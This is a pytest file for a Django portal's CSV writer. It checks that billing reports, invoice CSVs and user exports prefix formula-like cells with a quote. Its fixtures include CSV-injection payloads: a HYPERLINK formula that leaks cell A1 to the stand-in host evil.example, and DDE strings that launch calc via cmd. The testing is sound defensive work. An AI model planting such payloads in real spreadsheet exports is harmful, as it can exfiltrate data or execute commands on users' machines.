"""The one CSV writer (portal.csv): no export hands a spreadsheet a formula (BL-3, BL-4, CH-2).

One test per file the portal hands out: the billing report (a sub-partner's customer external
ID in the parent's USER report), the invoice CSV, the users export and the users template.
"""

import csv
import io

import pytest
from django.urls import reverse

from billing import services
from billing.models import BillingReport, Sku
from billing.tasks import generate_billing_report
from controlhub.models import Subscriber
from portal import csv as portal_csv
from portal.audit import Actor
from portal.errors import ApplicationError
from portal.models import Customer, Partner
from tests import demo

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
FORMULAS = [
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
]


def cells(content: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content)))


def no_formula(content: str) -> None:
    for row in cells(content):
        for cell in row:
            # what is left starting with + or - is a plain number (an E.164 number, a credit)
            assert portal_csv.safe_cell(cell) == cell, cell


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_starting_like_a_formula_is_quoted(value):
    assert portal_csv.safe_cell(value) == "'" + value
    assert portal_csv.unescape_cell(portal_csv.safe_cell(value)) == value


@pytest.mark.parametrize("value", ["-1.5", "+15551234567", "12", "Jane", "", "a=b", "'quoted"])
def test_plain_numbers_and_text_are_left_alone(value):
    assert portal_csv.safe_cell(value) == value
    assert portal_csv.unescape_cell(value) == value


def test_the_writer_streams_one_line_per_row():
    lines = list(portal_csv.stream([["a", "=1"], ["b", 2]]))
    assert lines == ["a,'=1\r\n", "b,2\r\n"]


def test_a_cell_over_the_field_limit_is_an_error_naming_the_line():
    content = "a,b\r\n" + "x," + "y" * (csv.field_size_limit() + 1) + "\r\n"
    with pytest.raises(ApplicationError, match="Line 2"):
        list(portal_csv.reader(content))


@pytest.mark.django_db
def test_the_parents_user_report_quotes_a_sub_partners_external_id(
    django_capture_on_commit_callbacks,
):
    acme = Partner.objects.get(pk=demo.ACME)
    customer = Customer.objects.filter(owner_id=demo.NORTHWIND).first()
    customer.external_id = HYPERLINK
    customer.save(update_fields=["external_id"])
    with django_capture_on_commit_callbacks(execute=False):
        report = services.billing_report_create(
            partner=acme,
            actor=Actor.system(),
            billing_start_date="2026-10-01",
            billing_end_date="2026-10-15",
            type="USER",
        )
    generate_billing_report(str(report.pk))
    with BillingReport.objects.get(pk=report.pk).file.open("rb") as stored:
        content = stored.read().decode()
    assert "'" + HYPERLINK in [cell for row in cells(content) for cell in row]
    no_formula(content)


def test_the_invoice_csv_quotes_a_formula_in_a_sku_description(client_for):
    from billing.demo import previous_month
    from billing.usage import today_utc

    Sku.objects.filter(subscription__partner_id=demo.ACME).update(description="@SUM(1+1)")
    client = client_for(demo.ACME_ADMIN)
    response = client.get(
        reverse("billing:invoice_csv", kwargs={"partner_id": demo.ACME}),
        {"month": previous_month(today_utc())[0].strftime("%Y-%m")},
    )
    content = response.content.decode()
    assert "'@SUM(1+1)" in content
    no_formula(content)


def test_the_users_export_quotes_a_formula_in_a_last_name_and_still_streams(client_for):
    Subscriber.objects.filter(email=demo.FABRIKAM_ADMIN).update(
        last_name="@SUM(1+1)*cmd|' /C calc'!A0"
    )
    client = client_for(demo.FABRIKAM_ADMIN)
    url = reverse("controlhub:users_export", kwargs={"org_id": demo.FABRIKAM})
    response = client.get(url)
    assert response.streaming
    content = b"".join(response.streaming_content).decode()
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in content
    no_formula(content)


def test_the_users_template_goes_through_the_writer(client_for):
    client = client_for(demo.FABRIKAM_ADMIN)
    url = reverse("controlhub:users_csv_template", kwargs={"org_id": demo.FABRIKAM})
    content = client.get(url).content.decode()
    assert content.endswith("\r\n")  # portal.csv's line ending
    no_formula(content)
